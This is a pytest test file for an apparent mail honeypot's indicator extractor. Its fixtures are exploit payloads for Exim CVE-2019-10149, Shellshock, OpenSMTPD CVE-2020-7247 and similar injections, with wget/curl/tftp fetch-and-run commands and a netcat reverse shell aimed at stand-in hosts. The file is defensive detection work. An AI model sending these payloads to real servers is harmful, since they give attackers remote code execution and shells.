"""An exploit payload's indicators, decoded as the attacked program decodes them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from relaypot.judgements.indicators import KINDS, MAX_INDICATORS, MAX_VALUE, exim_unescape, extract


@pytest.mark.parametrize("payload,expected", [
    # Exim CVE-2019-10149 (Qualys): \x2F and \t decoded as Exim's string expansion does
    (r"TO:<${run{\x2Fbin\x2Fsh\t-c\t\x22wget\x20http\x3A\x2F\x2F198.51.100.7\x2Fx\x22}}@localhost>",
     [("command", '/bin/sh -c "wget http://198.51.100.7/x"'), ("url", "http://198.51.100.7/x"),
      ("ipv4", "198.51.100.7")]),
    # Shellshock in a header, fetching from a host name
    ("Subject: () { :; }; /bin/bash -c 'curl -s http://evil.example:8080/s | sh'",
     [("command", "/bin/bash -c 'curl -s http://evil.example:8080/s | sh'"),
      ("url", "http://evil.example:8080/s"), ("domain", "evil.example")]),
    # OpenSMTPD CVE-2020-7247 (Qualys)
    ("FROM:<;for i in 0 1 2 3;do read r;done;sh;exit 0;>", [("command", "for i in 0 1 2 3;do read r;done;sh;exit 0")]),
    # Exim + Dovecot LDA (EDB-25297): ${IFS} is a blank to the shell
    ("FROM:<x`wget${IFS}-O${IFS}/tmp/a${IFS}http://[2001:db8::7]/a`@example.org>",
     [("command", "wget -O /tmp/a http://[2001:db8::7]/a"), ("url", "http://[2001:db8::7]/a"),
      ("ipv6", "2001:db8::7")]),
    # clamav-milter black hole: a program recipient, netcat to an address
    ('TO: <nobody+"|nc 203.0.113.9 4444 -e /bin/sh"@localhost>',
     [("command", "nc 203.0.113.9 4444 -e /bin/sh"), ("ipv4", "203.0.113.9")]),
    # a fetcher given a bare host name
    ("RCPT TO:<`tftp -g -r x.sh dl.evil.example`@x>", [("command", "tftp -g -r x.sh dl.evil.example"),
                                                       ("domain", "dl.evil.example")]),
])
def test_a_payload_gives_its_commands_urls_hosts_and_addresses(payload, expected):
    assert extract(payload) == expected


@pytest.mark.parametrize("text", ["HELO 000000000000000000", "Subject: version 1.2.3.4 of the manual is out",
                                  "MAIL FROM:<alice@example.org>", "X-Mailer: Outlook 16.0.1.2"])
def test_text_without_a_payload_gives_no_command_and_no_host(text):
    assert not [i for i in extract(text) if i[0] in ("command", "domain", "url")]


def test_exim_escapes():
    assert exim_unescape(r"\x2Fbin\x2Fsh\t-c\\n") == "/bin/sh\t-c\\n"


@given(st.text(max_size=2000))
def test_any_text_gives_a_bounded_list_of_known_kinds_without_raising(text):
    found = extract(text)
    assert len(found) <= MAX_INDICATORS and len(set(found)) == len(found)
    assert all(kind in KINDS and 0 < len(value) <= MAX_VALUE for kind, value in found)
